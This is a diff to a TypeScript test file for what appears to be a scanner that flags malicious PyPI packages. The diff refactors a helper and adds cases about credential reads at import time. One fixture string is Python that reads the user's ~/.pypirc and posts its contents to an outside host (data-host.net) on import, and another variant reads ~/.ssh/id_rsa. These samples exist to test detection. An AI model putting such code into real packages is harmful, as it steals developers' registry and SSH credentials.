@@ -5,24 +5,12 @@
  */
 import { test } from 'uvu';
 import * as assert from 'uvu/assert';
-import { analyzeArchive } from '../../shared/packages/analysis/index.js';
 import { pyFlow } from '../../shared/packages/analysis/npm/flow-py.js';
-import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
 import { loadParsers } from '../../shared/parsers/tree-sitter.js';
-import { buildTgz } from '../fixtures/archives/build.js';
+import { sdistLevel as level } from '../support/archives.js';
 
 const flow = (src: string) => pyFlow(src).hits.map((h) => h.rule.id);
 
-async function level(files: Record<string, string>, name = 'acmetools'): Promise<{ level: string; high: string[] }> {
-  const root = `${name}-1.0.0`;
-  const tgz = buildTgz([
-    { path: `${root}/pyproject.toml`, data: `[project]\nname = "${name}"\nversion = "1.0.0"\n` },
-    ...Object.entries(files).map(([p, data]) => ({ path: `${root}/${p}`, data })),
-  ]);
-  const analysis = await analyzeArchive(tgz, { kind: 'tgz', registry: 'pypi', registryHosts: [] });
-  const v = packageVerdict(reviewPackage({ registry: 'pypi', name, version: '1.0.0', analysis, integrity: { ok: true, expected: '', actual: '' }, advisories: { status: 'ok', advisories: [] } }));
-  return { level: v.securityLevel, high: analysis.findings.filter((f) => f.severity === 'HIGH' || f.severity === 'CRITICAL').map((f) => f.ruleId) };
-}
 
 test.before(async () => {
   await loadParsers();
@@ -149,9 +137,11 @@ class PyPIRCFile(object):
   const honest = await level({ 'acmetools/__init__.py': init, 'acmetools/util.py': distlib });
   assert.is.not(honest.level, 'BLOCKED', honest.high.join(' '));
   assert.not.ok(honest.high.includes('risk_combination'), honest.high.join(' '));
-  // another store read the same way (an SSH key) beside the same fetch is still theft at import
+  // another store read the same way (an SSH key) beside the same fetch, by a class built at import, is still theft at
+  // import; the same class that nothing builds reads nothing at import (python/reach.ts: a class named is not built)
   const ssh = distlib.replace("'.pypirc'", "'.ssh', 'id_rsa'");
-  assert.is((await level({ 'acmetools/__init__.py': init, 'acmetools/util.py': ssh })).level, 'BLOCKED');
+  assert.is((await level({ 'acmetools/__init__.py': init, 'acmetools/util.py': `${ssh}\n_rc = PyPIRCFile()\n` })).level, 'BLOCKED');
+  assert.is.not((await level({ 'acmetools/__init__.py': init, 'acmetools/util.py': ssh })).level, 'BLOCKED');
   // the credential file's content sent to that host is theft
   const sent = `import os\nfrom urllib.request import urlopen\ndef _load_pypirc():\n    return open(os.path.join(os.path.expanduser('~'), '.pypirc')).read()\ndef sync():\n    return urlopen('https://www.data-host.net/pypi/projects/up', data=_load_pypirc().encode())\nsync()\n`;
   assert.is((await level({ 'acmetools/__init__.py': 'from .util import sync\n', 'acmetools/util.py': sent })).level, 'BLOCKED');
